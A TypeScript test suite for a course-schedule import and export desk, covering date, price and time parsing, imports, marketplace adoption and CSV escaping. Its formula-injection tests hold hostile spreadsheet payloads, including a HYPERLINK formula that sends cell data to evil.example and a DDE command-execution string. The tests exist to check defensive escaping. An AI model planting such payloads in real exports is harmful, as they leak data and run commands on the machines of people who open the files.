// Import schedule through the IPC handlers, with files written as offices
// write them, on real SQLite and against a sandbox Marketplace over HTTP.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import writeXlsxFile from 'write-excel-file/node';
import { testSandbox, testServices } from '../support/services';
import { ipcFor } from '../support/roster';
import { networkKey, validDraft, validOnlineDraft } from '../support/helpers';
import { createMarketplaceClient } from '../../electron/main/marketplace/marketplace-client';
import { networkDialect } from '../../electron/main/marketplace/network';
import { toWire } from '../../electron/main/marketplace/wire';
import { readDate, readPrice, readTime } from '../../electron/main/exchange/schedule-values';

const fixture = (name: string) => fs.readFileSync(path.join(import.meta.dirname, '..', 'fixtures', 'schedules', name)).toString('base64');

test('cells as offices type them: dates, times and prices in English and French forms', () => {
  assert.deepEqual(readDate('2031-03-15'), { date: '2031-03-15' });
  assert.deepEqual(readDate('15/03/2031'), { proves: 'dmy', date: '2031-03-15' });
  assert.deepEqual(readDate('03/15/2031'), { proves: 'mdy', date: '2031-03-15' });
  assert.deepEqual(readDate('05/04/2031'), { ambiguous: ['2031-04-05', '2031-05-04'] });
  assert.deepEqual(readDate('March 15, 2031'), { date: '2031-03-15' });
  assert.deepEqual(readDate('15 mars 2031'), { date: '2031-03-15' });
  assert.deepEqual(readDate('le 1er août 2031'), { date: '2031-08-01' });
  assert.deepEqual(readDate(new Date(Date.UTC(2031, 2, 15))), { date: '2031-03-15' });
  assert.equal(readDate('31/02/2031'), null);
  assert.equal(readDate('tomorrow'), null);
  for (const [typed, time] of [['8:30 AM', '08:30'], ['4:30 p.m.', '16:30'], ['08h30', '08:30'], ['8 h 30', '08:30'], ['13 h', '13:00'], ['13:00', '13:00'], ['12:15 PM', '12:15'], ['12:00 AM', '00:00']] as const) {
    assert.equal(readTime(typed), time, typed);
  }
  assert.equal(readTime(0.354166667), '08:30', 'a spreadsheet time');
  assert.equal(readTime('8'), null);
  assert.equal(readTime('25:00'), null);
  for (const [typed, price] of [['149.50', 149.5], ['$149.50', 149.5], ['89,50 $', 89.5], ['1 234,50', 1234.5], ['1\u00a0234,50\u00a0$', 1234.5], ['1,234.50', 1234.5], ['1.234,50', 1234.5], ['0', 0]] as const) {
    assert.deepEqual(readPrice(typed), { ok: true, value: price }, typed);
  }
  assert.deepEqual(readPrice(149.99), { ok: true, value: 149.99 }, 'a spreadsheet number');
  assert.deepEqual(readPrice('about 100'), { ok: false, code: 'number.unreadable' });
  // Thousands to an English reader, decimals to a French one: refused, not guessed.
  assert.deepEqual(readPrice('12.345'), { ok: false, code: 'number.ambiguous' });
  assert.deepEqual(readPrice('1,200'), { ok: false, code: 'number.ambiguous' });
  assert.deepEqual(readPrice('149,99'), { ok: true, value: 149.99 }, 'the French decimal comma');
});

test('a French Excel export: every row reported at its cell before anything is written, then the good ones imported as drafts', async (t) => {
  const { services } = testServices(t);
  const { ipc } = ipcFor(services);
  const file = fixture('schedule-fr-windows1252.csv');
  const preview = await ipc('schedule:preview', { file, choices: {} });
  assert.equal(preview.kind, 'csv');
  assert.deepEqual(preview.mapping.dates, [3]);
  assert.equal(preview.mapping.fields.registrationUrl, 12, 'Lien d’inscription, read from Windows-1252');
  assert.deepEqual(
    preview.rows.map((r) => [r.line, r.action, r.problems.map((p) => `${p.column}: ${p.code}`)]),
    [
      [2, 'create', []],
      [4, 'refused', ['Identifiant: import.idConflict']],
      [5, 'create', []],
      [6, 'refused', ['Identifiant: import.idConflict']],
      [7, 'refused', ['Nom du cours: import.noCourseName']],
      [8, 'refused', ['Date: import.dateUnreadable']],
    ],
  );
  // 05/06/2031 fits both orders; 14/04/2031 proves day-first: asked, with day-first as the answer offered.
  assert.deepEqual(preview.questions.dateOrder, { needed: true, suggested: 'dmy' });
  // "CMSS - partie 1" is the ministry's label for three standards, and the file has no delivery column.
  assert.deepEqual(preview.questions.standards, [{ label: 'CMSS - partie 1', options: ['JHSC-2014-1-F-I', 'JHSC-2014-1-F-V', 'JHSC-2014-1-F-O'] }]);
  assert.deepEqual(preview.offerings, { create: 2, update: 0 });
  assert.equal(services.catalogue.list().length, 0, 'a preview writes nothing');

  const choices = { dateOrder: 'dmy' as const, standards: { 'CMSS - partie 1': 'JHSC-2014-1-F-I' as const } };
  const answered = await ipc('schedule:preview', { file, choices });
  assert.deepEqual(answered.questions.standards, preview.questions.standards, 'still asked, so the answer can change');
  const incomplete = answered.rows.find((r) => r.offeringId === 'th-0414')!.incomplete.map((f) => f.code);
  assert.deepEqual(incomplete.sort(), ['postalCode.invalid', 'price.required'], 'imported as an incomplete draft, the problems shown');
  const result = await ipc('schedule:import', { file, choices });
  assert.deepEqual([result.created, result.updated, result.refused, result.adopted], [2, 0, 4, 0]);
  const byId = Object.fromEntries(services.catalogue.list().map((r) => [r.draft.offeringId, r]));
  const avril = byId['th-0412']!;
  assert.equal(avril.draft.courseName, 'Travail en hauteur — avril');
  assert.equal(avril.draft.trainingStandardKey, 'WAH-F-I');
  assert.deepEqual(avril.draft.classDays, [{ date: '2031-04-14', start: '08:30', end: '16:30' }]);
  assert.equal(avril.draft.price, 149.5);
  assert.equal(avril.status, 'draft');
  assert.equal(byId['th-0414']!.status, 'incomplete');
  assert.equal(byId['th-0414']!.draft.trainingStandardKey, 'JHSC-2014-1-F-I');

  // The same file again: the two are updates now, and the chosen columns were remembered.
  const again = await ipc('schedule:preview', { file, choices: { dateOrder: 'dmy', standards: choices.standards } });
  assert.deepEqual(again.offerings, { create: 0, update: 2 });
  assert.equal(again.remembered, true);
});

test('one transaction: when the catalogue refuses a write half-way, nothing of the file is imported', async (t) => {
  const { services } = testServices(t);
  const { ipc, refused } = ipcFor(services);
  // A real SQLite failure on the second offering, as a full disk would cause.
  services.db.exec("CREATE TEMP TRIGGER fail_second BEFORE INSERT ON offerings WHEN NEW.offering_id = 'th-0414' BEGIN SELECT RAISE(ABORT, 'disk I/O error (test)'); END");
  const error = await refused('schedule:import', { file: fixture('schedule-fr-windows1252.csv'), choices: { dateOrder: 'dmy', standards: { 'CMSS - partie 1': 'JHSC-2014-1-F-I' } } });
  assert.equal(error.code, 'internal');
  assert.equal(services.catalogue.list().length, 0, 'th-0412, written before the failure, was rolled back');
  services.db.exec('DROP TRIGGER fail_second');
  assert.equal((await ipc('schedule:import', { file: fixture('schedule-fr-windows1252.csv'), choices: { dateOrder: 'dmy', standards: { 'CMSS - partie 1': 'JHSC-2014-1-F-I' } } })).created, 2);
});

test('adopting listings made elsewhere: several rows make one class, and its first Publish sends a full PATCH, never a POST', async (t) => {
  const key = networkKey();
  const sandbox = await testSandbox(t);
  const { services } = testServices(t, { marketplaceUrlPreset: sandbox.baseUrl, queue: { baseDelayMs: 10, maxDelayMs: 50 } });
  await services.credentials.setKey(key);
  const { ipc } = ipcFor(services);
  // Listed by hand on the Marketplace some time ago, with other seats and a price since changed.
  const byHand = createMarketplaceClient({ dialect: networkDialect({ baseUrl: sandbox.baseUrl, getKey: async () => key }) });
  const old = toWire(validDraft({ offeringId: 'wah-0505', courseName: 'WAH (old title)', seatsRemaining: 3, classDays: [{ date: '2031-05-04', start: '09:00', end: '17:00' }] }));
  assert.equal((await byHand.add(old)).ok, true);
  const file = fixture('schedule-en-bom.csv');

  const unanswered = await ipc('schedule:preview', { file, choices: {} });
  assert.deepEqual(unanswered.questions.dateOrder, { needed: true, suggested: null });
  assert.ok(unanswered.rows.every((r) => r.action === 'refused' && r.problems[0]?.code === 'import.dateOrder'), 'no row is guessed');
  const preview = await ipc('schedule:preview', { file, choices: { dateOrder: 'mdy' } });
  assert.deepEqual(preview.questions.standards, [], '"Working at Heights - Full course" is settled by the Delivery column');
  assert.deepEqual(preview.rows.map((r) => [r.line, r.action, r.adopted]), [[2, 'create', true], [3, 'create', false], [5, 'create', false]]);

  const result = await ipc('schedule:import', { file, choices: { dateOrder: 'mdy' } });
  assert.deepEqual([result.created, result.adopted], [2, 1]);
  const rows = services.catalogue.list();
  const wah = rows.find((r) => r.draft.offeringId === 'wah-0505')!;
  const jhsc = rows.find((r) => r.draft.offeringId === 'jhsc2-0601')!;
  assert.deepEqual(jhsc.draft.classDays.map((d) => d.date), ['2031-06-02', '2031-06-03'], 'two rows, one class of two days');
  assert.equal(jhsc.draft.price, 1095);
  assert.equal(wah.draft.trainingStandardKey, 'WAH-E-I');
  assert.deepEqual([wah.listed, wah.status, wah.listedVia], [true, 'changed', 'network']);
  assert.deepEqual(wah.draft.classDays, [{ date: '2031-05-04', start: '08:30', end: '16:30' }]);

  await ipc('offerings:publishAll', {});
  await services.queue.drain();
  const toWah = sandbox.requests().filter((r) => r.path.endsWith('/wah-0505') || (r.method === 'POST' && r.body?.offeringId === 'wah-0505'));
  assert.deepEqual(toWah.map((r) => [r.method, r.status]), [['POST', 201], ['PATCH', 204]], 'the hand-made add, then one full patch from the app');
  const patch = toWah[1]!.body!;
  assert.deepEqual(Object.keys(patch).sort(), ['address', 'contactForPricing', 'courseName', 'deliveryMethod', 'events', 'externalRegistrationUrl', 'price', 'seatsRemaining', 'trainingStandardKey', 'virtualClassUrl'].sort());
  assert.equal(patch.virtualClassUrl, null, 'an optional field the class does not have is cleared');
  const listed = sandbox.listings(key);
  assert.deepEqual(listed.find((l) => l.offeringId === 'wah-0505'), toWire(services.catalogue.get(wah.id).draft));
  assert.equal(services.catalogue.get(wah.id).status, 'published');
  assert.equal(listed.length, 2);
});

test('CSV round trip: an export imports back to the same offerings', async (t) => {
  const { services: first } = testServices(t);
  const a = ipcFor(first).ipc;
  const drafts = [
    validDraft({ courseName: 'JHSC Part One, "three days"', trainingStandardKey: 'JHSC-2014-1-E-I', classDays: [{ date: '2031-03-13', start: '08:30', end: '15:00' }, { date: '2031-03-14', start: '08:30', end: '15:00' }, { date: '2031-03-17', start: '09:00', end: '15:30' }] }),
    validDraft({ courseName: 'Travail en hauteur — Gatineau', trainingStandardKey: 'WAH-F-I', contactForPricing: true, price: null, address: { street: '200, boul. Saint-Joseph', extended: 'Local 3', city: 'Gatineau', province: 'QC', postalCode: 'J8Y 3X4' } }),
    validDraft({ courseName: 'JHSC Part Two — virtual', trainingStandardKey: 'JHSC-2014-2-E-V', address: { street: '', extended: '', city: '', province: 'ON', postalCode: '' }, virtualClassUrl: 'https://meet.example.ca/jhsc2' }),
    validOnlineDraft({ courseName: 'JHSC Part One — online' }),
  ];
  for (const draft of drafts) await a('offerings:save', { id: null, draft });
  const exported = await a('offerings:exportCsv', { query: {} });

  const { services: second } = testServices(t);
  const b = ipcFor(second).ipc;
  const file = Buffer.from(exported.text, 'utf8').toString('base64');
  const preview = await b('schedule:preview', { file, choices: {} });
  assert.deepEqual(preview.questions, { dateOrder: { needed: false, suggested: null }, standards: [], similar: { needed: false, count: 0 } }, 'the export is never ambiguous');
  assert.deepEqual((await b('schedule:import', { file, choices: {} })).created, 4);
  const key = (r: { draft: { offeringId: string } }) => r.draft.offeringId;
  const before = first.catalogue.list().sort((x, y) => key(x).localeCompare(key(y))).map((r) => r.draft);
  const after = second.catalogue.list().sort((x, y) => key(x).localeCompare(key(y))).map((r) => r.draft);
  assert.deepEqual(after, before);
});

test('an .xlsx with two sheets: the first is read unless another is chosen; spreadsheet dates and times are read as such', async (t) => {
  const { services } = testServices(t);
  const { ipc } = ipcFor(services);
  const header = ['Offering ID', 'Course name', 'Training standard', 'Date', 'Start', 'End', 'Seats remaining', 'Price', 'Street address', 'City', 'Postal code', 'Registration URL'].map((value) => ({ value }));
  const row = (id: string, date: Date) => [id, 'WAH from Excel', 'WAH-E-I', date, '8:30 AM', '4:30 PM', 14, 139.99, '100 Queen St W', 'Toronto', 'M5H 2N2', 'https://training.example.ca/r/xl'].map((value) => ({ value, ...(value instanceof Date ? { format: 'yyyy-mm-dd' } : {}) }));
  const buffer = await writeXlsxFile([
    { sheet: 'Notes', data: [[{ value: 'Read me: the schedule is on the next sheet.' }]] },
    { sheet: 'Schedule', data: [header, row('xl-1', new Date(Date.UTC(2031, 9, 6))), row('xl-2', new Date(Date.UTC(2031, 9, 20)))] },
  ] as never).toBuffer();
  const file = Buffer.from(buffer).toString('base64');
  const notes = await ipc('schedule:preview', { file, choices: {} });
  assert.deepEqual([notes.kind, notes.sheets, notes.sheet], ['xlsx', ['Notes', 'Schedule'], 'Notes']);
  assert.equal(notes.rows.length, 0);
  const schedule = await ipc('schedule:preview', { file, choices: { sheet: 'Schedule' } });
  assert.deepEqual(schedule.rows.map((r) => [r.line, r.action, r.incomplete]), [[2, 'create', []], [3, 'create', []]]);
  await ipc('schedule:import', { file, choices: { sheet: 'Schedule' } });
  const [first] = services.catalogue.list().sort((x, y) => x.draft.offeringId.localeCompare(y.draft.offeringId));
  assert.deepEqual(first!.draft.classDays, [{ date: '2031-10-06', start: '08:30', end: '16:30' }]);
  assert.equal(first!.draft.price, 139.99);
  assert.equal(first!.draft.seatsRemaining, 14);
});

test('a row with no offering ID imports without a word about its ID: one is made for it, as for a new draft', async (t) => {
  const { services } = testServices(t);
  const { ipc } = ipcFor(services);
  const csv = ['Offering ID,Course name,Training standard,Date,Start,End,Seats remaining,Price,Street address,City,Postal code,Registration URL', ',WAH no ID,WAH-E-I,2031-10-06,08:30,16:30,12,149.99,100 Queen St W,Toronto,M5H 2N2,https://training.example.ca/r/no-id'].join('\r\n');
  const file = Buffer.from(csv).toString('base64');
  const preview = await ipc('schedule:preview', { file, choices: {} });
  assert.deepEqual(preview.rows.map((r) => [r.action, r.problems, r.incomplete]), [['create', [], []]], 'no “Use 1–64 letters…” on the row');
  await ipc('schedule:import', { file, choices: {} });
  const [row] = services.catalogue.list();
  assert.match(row!.draft.offeringId, /^wah-e-i-2031-10-06-[a-z0-9x]{4}$/);
  assert.equal(row!.status, 'draft', 'ready to publish, not incomplete');
});

test('formula injection: cells starting with = + - @, a tab or a CR are escaped in every CSV the desk writes, and read back unchanged', async (t) => {
  const { parse } = await import('csv-parse/sync');
  const hostile = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for your certificate")',
    '+1 Working at Heights',
    '-Refresher',
    '@SUM(A1:A9)',
    '\tTabbed WAH',
    '\rCarriage WAH',
    "'=already quoted",
    "'Tis the season — a plain quote",
  ];
  const { services: first } = testServices(t);
  const a = ipcFor(first).ipc;
  for (const [i, courseName] of hostile.entries()) {
    await a('offerings:save', { id: null, draft: validDraft({ offeringId: `inj-${i}`, courseName, address: { street: '=cmd|\' /C calc\'!A0', extended: '-', city: 'Toronto', province: 'ON', postalCode: 'M5H 2N2' } }) });
  }
  // A spreadsheet would see what csv-parse sees: no cell of any CSV the desk writes may start a formula.
  const startsFormula = (cells: string[][]) => cells.flat().filter((c) => /^[=+\-@\t\r]/.test(c));
  const exported = await a('offerings:exportCsv', { query: {} });
  assert.deepEqual(startsFormula(parse(exported.text.slice(1)) as string[][]), [], 'Export CSV');
  assert.match(exported.text, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&A1,""Click for your certificate""\)",/, 'escaped and quoted, as OWASP advises');
  assert.match(exported.text, /,"''=already quoted",/, 'a real leading quote before a formula character gets one more');
  assert.match(exported.text, /,'Tis the season — a plain quote,|,"'Tis the season — a plain quote",/);
  // Activity's CSV and the refused rows' CSV: a table the window built, with the server's words in it.
  const table = await a('export:csv', { rows: [['Time', 'Result'], ['2031-01-01', '=2+5 said the Marketplace'], ['2031-01-02', '-1'], ['2031-01-03', '@x']] });
  assert.deepEqual(startsFormula(parse(table.text.slice(1)) as string[][]), [], 'export:csv');
  assert.deepEqual((parse(table.text.slice(1)) as string[][]).map((r) => r[1]), ['Result', "'=2+5 said the Marketplace", "'-1", "'@x"]);

  // The import reads the desk's own export back unchanged.
  const { services: second } = testServices(t);
  const b = ipcFor(second).ipc;
  const file = Buffer.from(exported.text, 'utf8').toString('base64');
  assert.equal((await b('schedule:import', { file, choices: {} })).created, hostile.length);
  const drafts = (s: typeof first) => s.catalogue.list().map((r) => r.draft).sort((x, y) => x.offeringId.localeCompare(y.offeringId));
  // The import trims the whitespace around every cell, as it always has (" WAH" reads as "WAH"): the tab and CR
  // names come back trimmed, not as formulas; every other cell comes back exactly.
  const trimmed = (list: ReturnType<typeof drafts>) => list.map((d) => ({ ...d, courseName: d.courseName.trim() }));
  assert.deepEqual(drafts(second), trimmed(drafts(first)));
  assert.deepEqual(drafts(second).map((d) => d.courseName), hostile.map((name) => name.trim()));
  assert.equal(drafts(second)[0]!.address.street, "=cmd|' /C calc'!A0");

  // Refused rows saved as CSV (as ImportReport does) and imported again keep their cells exactly.
  const refusedFile = Buffer.from(`Course name,Training standard,Date,Start,End\r\n,WAH-E-I,=1+1,@start,-end\r\n`, 'utf8').toString('base64');
  const preview = await b('schedule:preview', { file: refusedFile, choices: {} });
  const refused = preview.rows.filter((r: { action: string }) => r.action === 'refused');
  assert.equal(refused.length, 1);
  const saved = await b('export:csv', { rows: [preview.headers, ...refused.map((r: { cells: string[] }) => r.cells)] });
  assert.deepEqual(startsFormula(parse(saved.text.slice(1)) as string[][]), []);
  const again = await b('schedule:preview', { file: Buffer.from(saved.text, 'utf8').toString('base64'), choices: {} });
  assert.deepEqual(again.rows.map((r: { cells: string[] }) => r.cells), refused.map((r: { cells: string[] }) => r.cells));
  assert.deepEqual(refused[0]!.cells, ['', 'WAH-E-I', '=1+1', '@start', '-end']);
});

test('formula injection: an export saved from a spreadsheet as .xlsx with its escaping quotes as text reads back as the desk wrote it', async (t) => {
  const { services } = testServices(t);
  const { ipc } = ipcFor(services);
  const header = ['Offering ID', 'Course name', 'Training standard', 'Date', 'Start', 'End', 'City'].map((value) => ({ value }));
  const row = ["'=xl-1", "'=1+1 WAH", 'WAH-E-I', '2031-10-06', '08:30', '16:30', "'-Toronto"].map((value) => ({ value }));
  const buffer = await writeXlsxFile([header, row] as never).toBuffer();
  await ipc('schedule:import', { file: Buffer.from(buffer).toString('base64'), choices: {} });
  const [imported] = services.catalogue.list();
  assert.deepEqual([imported!.draft.offeringId, imported!.draft.courseName, imported!.draft.address.city], ['=xl-1', '=1+1 WAH', '-Toronto']);
});
